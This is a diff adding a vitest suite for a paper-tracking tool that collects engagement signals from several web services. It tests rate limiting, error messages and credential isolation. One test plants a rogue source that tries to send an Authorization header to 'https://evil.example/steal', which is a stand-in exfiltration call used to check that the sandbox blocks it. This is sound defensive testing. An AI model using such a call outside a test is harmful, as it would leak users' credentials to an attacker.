@@ -1,0 +1,250 @@
+import { describe, expect, it } from 'vitest';
+import { CREDENTIALS_KEY, setCredentials } from '../../lib/credentials';
+import { getSignals, getSnapshots, openHotDb, storePapers, type HotDb } from '../../lib/db';
+import { collectSignals, MIN_RATE_LIMIT_BACKOFF_MS, type SignalsEnv } from '../../lib/signals';
+import { DEFAULT_SETTINGS, type KeyValueStorage, type Settings } from '../../lib/settings';
+import { SOURCES } from '../../lib/sources/index';
+import { hackerNews } from '../../lib/sources/hacker-news';
+import { huggingFace } from '../../lib/sources/hugging-face';
+import type { EngagementSource } from '../../lib/sources/types';
+import { getSourceStatuses } from '../../lib/views';
+import { fakeFetch, fixture, json, NOW, paper, type Handler } from './source-test-kit';
+
+const HF = fixture('hf_daily_papers_2026-05-18.json');
+const HN = fixture('hn_algolia_search_by_date_arxiv_format.json');
+const BSKY_SESSION = fixture('bluesky_create_session_format.json');
+const BSKY_SEARCH = fixture('bluesky_search_posts_format.json');
+const X = fixture('x_v2_tweets_search_recent_public_metrics_format.json');
+const S2 = fixture('s2_paper_batch.json');
+
+const X_TOKEN = 'AAAAAAAAAAAAAAAAAAAAAsecret-x-bearer-token-0123456789';
+const BSKY_PASSWORD = 'abcd-efgh-ijkl-mnop';
+const S2_KEY = 's2-secret-key-0123456789';
+
+const papers = [paper('2605.13301', '2026-05-15'), paper('2605.15141', '2026-05-15'), paper('2605.06554', '2026-05-15'), paper('2605.10912', '2026-05-15')];
+
+let dbn = 0;
+async function setup(over: Partial<Settings> = {}) {
+  const db = await openHotDb(`signals-test-${dbn++}`);
+  await storePapers(db, papers, []);
+  const store = new Map<string, unknown>();
+  const storage: KeyValueStorage = {
+    get: async (k) => (store.has(k) ? { [k]: structuredClone(store.get(k)) } : {}),
+    set: async (items) => void Object.entries(items).forEach(([k, v]) => store.set(k, structuredClone(v))),
+  };
+  const settings: Settings = { ...structuredClone(DEFAULT_SETTINGS), ...over };
+  let now = NOW;
+  const clock = { now: () => now, advance: (ms: number) => void (now += ms) };
+  return { db, storage, settings, store, clock };
+}
+
+function envOf(s: Awaited<ReturnType<typeof setup>>, handler: Handler, sources?: EngagementSource[]): { env: SignalsEnv; calls: ReturnType<typeof fakeFetch>['calls'] } {
+  const { fetch, calls } = fakeFetch(handler);
+  return { env: { db: s.db, settings: s.settings, storage: s.storage, fetch, now: s.clock.now, sleep: async () => {}, sources }, calls };
+}
+
+const hfOnly = (url: string) => url.startsWith('https://huggingface.co/');
+const hnOnly = (url: string) => url.startsWith('https://hn.algolia.com/');
+
+/** The normal replies of every service. */
+const normal: Handler = (url) => {
+  if (hfOnly(url)) return json(url.includes('date=2026-05-15') ? HF : '[]');
+  if (hnOnly(url)) return json(HN);
+  if (url.includes('createSession') || url.includes('refreshSession')) return json(BSKY_SESSION);
+  if (url.includes('searchPosts')) return json(new URL(url).searchParams.has('cursor') ? { posts: [] } : BSKY_SEARCH);
+  if (url.startsWith('https://api.x.com/')) return json(X);
+  if (url.startsWith('https://api.semanticscholar.org/')) return json(JSON.parse(S2).concat([]).slice(0, 4));
+  return new Response('unexpected host', { status: 599 });
+};
+
+async function sig(db: HotDb, id: string, source: string) {
+  return (await getSignals(db, [id])).get(id)?.find((r) => r.source === source);
+}
+
+describe('collectSignals', () => {
+  it('fills signals and per-source statuses from recorded replies, with request counts', async () => {
+    const s = await setup();
+    const { env } = envOf(s, normal, [huggingFace, hackerNews]);
+    const reports = await collectSignals(env, papers);
+    expect(reports).toEqual([
+      { source: 'hf', state: 'ok', papers: 4, requests: 2 },
+      { source: 'hn', state: 'ok', papers: 4, requests: 1 },
+    ]);
+    expect((await sig(s.db, '2605.13301', 'hf'))!.counts).toEqual({ upvotes: 140, comments: 4, githubStars: 70 });
+    expect((await sig(s.db, '2605.13301', 'hn'))!.counts).toEqual({ points: 421, comments: 190 });
+    const statuses = await getSourceStatuses(s.db);
+    expect(statuses.find((x) => x.source === 'hf')).toEqual({ source: 'hf', state: 'ok', lastSuccess: NOW, lastAttempt: NOW });
+    expect(statuses.find((x) => x.source === 'x')).toEqual({ source: 'x', state: 'never' });
+  });
+
+  it('one source failing keeps the others\' new data and its own last good data', async () => {
+    const s = await setup();
+    await collectSignals(envOf(s, normal, [huggingFace, hackerNews]).env, papers);
+    s.clock.advance(30 * 60_000);
+    // HF now has more upvotes; HN answers with a truncated reply.
+    const bumped = (JSON.parse(HF) as { paper: { id: string; upvotes: number } }[]).map((e) => (e.paper.id === '2605.13301' ? { ...e, paper: { ...e.paper, upvotes: 150 } } : e));
+    const { env } = envOf(s, (url, i, n) => (hnOnly(url) ? json(HN.slice(0, 500)) : hfOnly(url) && url.includes('2026-05-15') ? json(bumped) : normal(url, i, n)), [huggingFace, hackerNews]);
+    const reports = await collectSignals(env, papers);
+    expect(reports.map((r) => [r.source, r.state])).toEqual([['hf', 'ok'], ['hn', 'error']]);
+    expect((await sig(s.db, '2605.13301', 'hf'))!.counts.upvotes).toBe(150);
+    const hn = (await sig(s.db, '2605.13301', 'hn'))!;
+    expect(hn.counts).toEqual({ points: 421, comments: 190 });
+    expect(hn.fetchedAt).toBe(NOW);
+    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
+    expect(status).toEqual({ source: 'hn', state: 'error', lastSuccess: NOW, lastAttempt: NOW + 30 * 60_000, lastError: 'Hacker News sent a reply we could not read' });
+  });
+
+  it('a paper missing from a later reply keeps its previous signal', async () => {
+    const s = await setup();
+    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
+    s.clock.advance(30 * 60_000);
+    await collectSignals(envOf(s, () => json('[]'), [huggingFace]).env, papers);
+    expect((await sig(s.db, '2605.06554', 'hf'))!.counts.upvotes).toBe(21);
+  });
+
+  it('writes a snapshot only when counts change', async () => {
+    const s = await setup();
+    const count = async () => (await getSnapshots(s.db, ['2605.13301'])).get('2605.13301')!.filter((x) => x.source === 'hf').length;
+    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
+    expect(await count()).toBe(1);
+    s.clock.advance(30 * 60_000);
+    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
+    expect(await count()).toBe(1);
+    s.clock.advance(30 * 60_000);
+    const bumped = (JSON.parse(HF) as { paper: { id: string; upvotes: number } }[]).map((e) => (e.paper.id === '2605.13301' ? { ...e, paper: { ...e.paper, upvotes: 141 } } : e));
+    await collectSignals(envOf(s, () => json(bumped), [huggingFace]).env, papers);
+    expect(await count()).toBe(2);
+  });
+
+  it('respects retryAt after a 429 and says "rate-limited" until then', async () => {
+    const s = await setup();
+    const limited: Handler = (url, i, n) => (hnOnly(url) ? json({ message: 'slow down' }, 429, { 'Retry-After': '3600' }) : normal(url, i, n));
+    const first = await collectSignals(envOf(s, limited, [hackerNews]).env, papers);
+    expect(first[0]).toMatchObject({ source: 'hn', state: 'rate-limited', requests: 1 });
+    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
+    expect(status.retryAt).toBe(NOW + 3_600_000);
+    expect(status.lastError).toBe('Hacker News asked us to slow down; trying again later');
+
+    s.clock.advance(40 * 60_000);
+    const mid = envOf(s, normal, [hackerNews]);
+    const second = await collectSignals(mid.env, papers, { force: true });
+    expect(mid.calls).toHaveLength(0);
+    expect(second[0]).toMatchObject({ source: 'hn', state: 'rate-limited', requests: 0 });
+
+    s.clock.advance(21 * 60_000);
+    const after = envOf(s, normal, [hackerNews]);
+    const third = await collectSignals(after.env, papers);
+    expect(after.calls).toHaveLength(1);
+    expect(third[0]).toMatchObject({ state: 'ok' });
+  });
+
+  it('a 429 without a usable Retry-After still waits a few minutes', async () => {
+    const s = await setup();
+    await collectSignals(envOf(s, (url, i, n) => (hnOnly(url) ? json({}, 429) : normal(url, i, n)), [hackerNews]).env, papers);
+    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
+    expect(status.retryAt).toBeGreaterThanOrEqual(NOW + MIN_RATE_LIMIT_BACKOFF_MS);
+  });
+
+  it('does not call a source again before its minimum interval, unless forced', async () => {
+    const s = await setup();
+    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
+    s.clock.advance(60_000);
+    const again = envOf(s, normal, [huggingFace]);
+    const r = await collectSignals(again.env, papers);
+    expect(again.calls).toHaveLength(0);
+    expect(r[0]).toEqual({ source: 'hf', state: 'ok', papers: 0, requests: 0 });
+    const forced = envOf(s, normal, [huggingFace]);
+    await collectSignals(forced.env, papers, { force: true });
+    expect(forced.calls.length).toBeGreaterThan(0);
+  });
+
+  it('skips disabled sources without a request, and says so', async () => {
+    const s = await setup();
+    s.settings.sources.hn = { enabled: false, weight: 1 };
+    const { env, calls } = envOf(s, normal, [huggingFace, hackerNews]);
+    const r = await collectSignals(env, papers);
+    expect(r[1]).toEqual({ source: 'hn', state: 'disabled', papers: 0, requests: 0 });
+    expect(calls.some((c) => hnOnly(c.url))).toBe(false);
+    expect((await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!.state).toBe('disabled');
+  });
+
+  it('status words for each failure, in plain language', async () => {
+    const s = await setup();
+    s.settings.sources.x = { enabled: true, weight: 1 };
+    await setCredentials(s.storage, { xBearer: X_TOKEN });
+    const failing: Handler = (url) => {
+      if (hfOnly(url)) return new Response('oops', { status: 500 });
+      if (url.startsWith('https://api.x.com/')) return json({ title: 'Unauthorized', type: 'about:blank', status: 401, detail: `Unauthorized ${X_TOKEN}` }, 401);
+      if (url.startsWith('https://api.semanticscholar.org/')) return new Response('<html>Forbidden</html>', { status: 403 });
+      return json(HN);
+    };
+    const r = await collectSignals(envOf(s, failing).env, papers);
+    const by = Object.fromEntries(r.map((x) => [x.source, x]));
+    expect(by.hf).toMatchObject({ state: 'error', error: 'Hugging Face answered with an error (HTTP 500)' });
+    expect(by.hn).toMatchObject({ state: 'ok' });
+    expect(by.bluesky).toMatchObject({ state: 'auth-needed', error: 'Sign in with a Bluesky app password to use Bluesky', requests: 0 });
+    expect(by.x).toMatchObject({ state: 'auth-needed', error: 'X (Twitter) refused our sign-in (HTTP 401); check the credentials in the options' });
+    expect(by.s2).toMatchObject({ state: 'error', error: 'Semantic Scholar refused the request (HTTP 403)' });
+    const statuses = await getSourceStatuses(s.db);
+    expect(statuses.map((x) => x.state)).toEqual(['error', 'ok', 'auth-needed', 'auth-needed', 'error']);
+  });
+
+  it('credentials never appear in statuses, reports or errors', async () => {
+    const s = await setup();
+    s.settings.sources.x = { enabled: true, weight: 1 };
+    await setCredentials(s.storage, { xBearer: X_TOKEN, bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD }, s2Key: S2_KEY });
+    // A buggy source that puts a secret into its error message.
+    const leaky: EngagementSource = {
+      id: 'x', label: 'X (Twitter)', hosts: ['api.x.com'], credentials: 'token', minIntervalMs: 0,
+      fetchSignals: async (_p, env) => {
+        throw new Error(`request failed with token ${env.credentials.xBearer}`);
+      },
+    };
+    const handler: Handler = (url) => json({ error: `echo ${X_TOKEN} ${BSKY_PASSWORD} ${S2_KEY}` }, 401);
+    const r = await collectSignals(envOf(s, handler, [...SOURCES.filter((x) => x.id !== 'x'), leaky]).env, papers);
+    const text = JSON.stringify([r, await getSourceStatuses(s.db)]);
+    for (const secret of [X_TOKEN, BSKY_PASSWORD, S2_KEY]) expect(text).not.toContain(secret);
+    expect(r.find((x) => x.source === 'x')!.state).toBe('error');
+  });
+
+  it('sends each credential only to its own host', async () => {
+    const s = await setup();
+    s.settings.sources.x = { enabled: true, weight: 1 };
+    await setCredentials(s.storage, { xBearer: X_TOKEN, bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD }, s2Key: S2_KEY });
+    const { env, calls } = envOf(s, normal);
+    const r = await collectSignals(env, papers);
+    expect(r.map((x) => x.state)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
+    const hostOf = (u: string) => new URL(u).host;
+    for (const c of calls) {
+      const blob = JSON.stringify(c);
+      if (blob.includes(X_TOKEN)) expect(hostOf(c.url)).toBe('api.x.com');
+      if (blob.includes(BSKY_PASSWORD)) expect(c.url).toBe('https://bsky.social/xrpc/com.atproto.server.createSession');
+      if (blob.includes(S2_KEY)) expect(hostOf(c.url)).toBe('api.semanticscholar.org');
+      if (c.headers.Authorization) expect(['api.x.com', 'bsky.social']).toContain(hostOf(c.url));
+    }
+    expect(calls.filter((c) => JSON.stringify(c).includes(X_TOKEN)).length).toBeGreaterThan(0);
+    expect(calls.filter((c) => c.headers['x-api-key'] === S2_KEY).length).toBe(1);
+    // The credentials stay under their own storage key, outside the settings.
+    expect(JSON.stringify(s.settings)).not.toContain(X_TOKEN);
+    expect(Object.keys((await s.storage.get(CREDENTIALS_KEY))[CREDENTIALS_KEY] as object).sort()).toEqual(['bluesky', 's2Key', 'xBearer']);
+  });
+
+  it('a source cannot reach a host outside its own list, nor see other sources\' secrets', async () => {
+    const s = await setup();
+    await setCredentials(s.storage, { xBearer: X_TOKEN });
+    let seen: unknown;
+    const rogue: EngagementSource = {
+      id: 'hn', label: 'Hacker News', hosts: ['hn.algolia.com'], credentials: 'none', minIntervalMs: 0,
+      fetchSignals: async (_p, env) => {
+        seen = env.credentials;
+        await env.fetch('https://evil.example/steal', { headers: { Authorization: 'Bearer x' } });
+        return { signals: [], requests: 1 };
+      },
+    };
+    const { env, calls } = envOf(s, normal, [rogue]);
+    const r = await collectSignals(env, papers);
+    expect(calls).toHaveLength(0);
+    expect(seen).toEqual({});
+    expect(r[0]!.state).toBe('error');
+  });
+});
